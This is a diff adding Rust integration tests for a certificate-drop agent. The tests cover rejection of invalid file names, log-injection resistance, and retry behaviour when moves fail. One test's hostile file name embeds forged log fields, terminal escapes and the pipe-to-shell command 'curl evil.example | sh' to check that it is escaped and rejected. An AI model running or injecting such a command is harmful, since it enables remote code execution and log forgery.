@@ -629,3 +629,148 @@ fn an_unusable_drop_directory_stops_the_agent_before_it_serves() {
     );
     assert!(!env.socket().exists(), "no socket is left behind");
 }
+
+// === hostile names and failing moves ===
+
+/// Every log line is one record: it starts with its timestamp, so a name
+/// holding newlines cannot add lines of its own.
+fn assert_no_forged_log_line(agent: &AgentProc) {
+    let log = agent.log();
+    for line in log
+        .lines()
+        .filter(|l| !l.trim().is_empty() && !l.starts_with("===== support:"))
+    {
+        assert!(
+            line.starts_with(|c: char| c.is_ascii_digit() || c == '\u{1b}'),
+            "a line that is not a log record: {line:?}\n{log}"
+        );
+        assert!(!line.contains('\u{b}'), "a raw control character: {line:?}");
+    }
+}
+
+#[test]
+fn invalid_and_hostile_names_are_rejected_once_and_forge_no_line() {
+    let (env, _dir) = app_env();
+    let agent = env.spawn_agent();
+    let w = Watcher::start(&env, &agent);
+    let leaf = pki::issue_cert(&["app.test"]);
+    let hostile = "x\nreason:   deployed\nretry: curl evil.example | sh\n\u{b}\u{1b}[2J.pem";
+    let long = format!("{}.pem", "a".repeat(244));
+    rename_in(&env, hostile, leaf.bundle_pem());
+    rename_in(&env, &long, leaf.bundle_pem());
+
+    wait_idle(&env, &agent);
+    let rejected = rejected(&env);
+    assert_eq!(rejected.len(), 2, "{rejected:#?}\n{}", agent.log());
+    for (path, reason) in &rejected {
+        let name = path.file_name().unwrap().to_str().unwrap();
+        assert!(
+            name.bytes()
+                .all(|b| b.is_ascii_alphanumeric() || b"._-".contains(&b)),
+            "{name:?}"
+        );
+        let count = |p: &str| reason.lines().filter(|l| l.starts_with(p)).count();
+        assert_eq!(count("reason:"), 1, "{reason}");
+        assert_eq!(count("retry:"), 1, "{reason}");
+        assert!(reason.contains("reason:   invalid_name\n"), "{reason}");
+        assert!(
+            reason.contains("uses 1 to 63 characters from a-z, 0-9"),
+            "the reason says what a valid name is:\n{reason}"
+        );
+        assert!(
+            !reason.contains('\u{1b}') && !reason.contains('\u{b}'),
+            "{reason}"
+        );
+    }
+    let texts: String = rejected.iter().map(|(_, r)| r.as_str()).collect();
+    assert!(
+        texts.contains(r"x\nreason:   deployed\nretry: curl evil.example | sh\n\x0b\x1b[2J.pem"),
+        "the hostile name is shown escaped:\n{texts}"
+    );
+    // Rejected once each, never "could not be taken", never retried.
+    let finals = logged_finals(&agent);
+    assert_eq!(
+        finals.get("rejected"),
+        Some(&2),
+        "{finals:?}\n{}",
+        agent.log()
+    );
+    assert_eq!(finals.len(), 1, "{finals:?}");
+    assert!(
+        !agent.log().contains("could not be taken"),
+        "{}",
+        agent.log()
+    );
+    assert_eq!(w.drops(None, "rejected").len(), 2);
+    assert_no_forged_log_line(&agent);
+    assert!(drop_entries(&env).is_empty());
+}
+
+#[test]
+fn a_reason_file_that_cannot_be_written_for_a_while_is_retried_not_lost() {
+    let (env, _dir) = app_env();
+    // The first three reason files fail as when descriptors run out.
+    let agent = env.spawn_agent_env(&[("CERTCTL_FAULT_DROP", "reason:EMFILE:3")]);
+    let leaf = pki::issue_cert(&["app.test"]);
+    rename_in(&env, "nosuch.pem", leaf.bundle_pem());
+    wait_idle(&env, &agent);
+    let rejected = rejected(&env);
+    assert_eq!(rejected.len(), 1, "{rejected:#?}\n{}", agent.log());
+    assert!(rejected[0].1.contains("reason:   unknown_target\n"));
+    let log = agent.log();
+    assert_eq!(
+        log.matches("and the move is tried again in").count(),
+        3,
+        "{log}"
+    );
+    assert!(
+        log.contains("it stays in the drop directory as ") && log.contains("/.certctl-claimed."),
+        "{log}"
+    );
+    assert_eq!(logged_finals(&agent).get("rejected"), Some(&1));
+    assert_eq!(logged_finals(&agent).get("failed"), None);
+}
+
+#[test]
+fn a_drop_that_cannot_be_moved_stays_in_the_drop_directory_until_a_restart() {
+    let (env, _dir) = app_env();
+    let mut agent = env.spawn_agent_env(&[("CERTCTL_FAULT_DROP", "move:EACCES:persist")]);
+    let w = Watcher::start(&env, &agent);
+    let leaf = pki::issue_cert(&["app.test"]);
+    rename_in(&env, "nosuch.pem", leaf.bundle_pem());
+    let deadline = Instant::now() + Duration::from_secs(60);
+    while w.drops(None, "failed").is_empty() {
+        assert!(
+            Instant::now() < deadline,
+            "no failed event:\n{}",
+            agent.log()
+        );
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    let failed = &w.drops(None, "failed")[0];
+    let message = failed["message"].as_str().unwrap_or_default();
+    // It says where the drop is, and that is where it is: taken in the
+    // drop directory, with no reason file left in rejected/.
+    let left = drop_entries(&env);
+    assert_eq!(left.len(), 1, "{left:?}");
+    assert!(left[0].starts_with(".certctl-claimed."), "{left:?}");
+    assert!(
+        message.contains(&format!(
+            "stays in the drop directory as {}",
+            arg(&env.drop_dir().join(&left[0]))
+        )),
+        "{message}"
+    );
+    let in_rejected: Vec<_> = std::fs::read_dir(env.state_dir().join("rejected"))
+        .unwrap()
+        .collect();
+    assert!(in_rejected.is_empty(), "{in_rejected:?}");
+    drop_agent(&mut agent);
+
+    // Without the fault, the next start moves it aside with its reason.
+    let agent = env.spawn_agent();
+    wait_idle(&env, &agent);
+    let rejected = rejected(&env);
+    assert_eq!(rejected.len(), 1, "{rejected:#?}\n{}", agent.log());
+    assert!(rejected[0].1.contains("reason:   unknown_target\n"));
+}
